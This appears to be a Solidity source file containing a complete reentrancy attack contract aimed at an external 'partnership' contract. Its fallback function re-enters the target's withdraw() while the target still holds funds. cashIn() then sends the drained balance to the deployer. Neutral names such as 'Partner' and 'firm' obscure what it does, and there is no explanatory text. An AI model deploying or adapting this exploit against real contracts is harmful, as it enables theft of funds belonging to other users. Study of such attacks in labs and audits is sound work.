pragma solidity 0.4.25;

interface IPartnership {
    function withdraw() external;
    function owed(address who) external view returns (uint256);
}

contract Partner {
    IPartnership public firm;
    address private boss;

    constructor() public {
        boss = msg.sender;
    }

    function setFirm(IPartnership _firm) public {
        firm = _firm;
    }

    function cashIn() public {
        firm.withdraw();
        boss.transfer(address(this).balance);
    }

    function () public payable {
        if (msg.sender == address(firm) && address(firm).balance >= firm.owed(this)) {
            firm.withdraw();
        }
    }
}
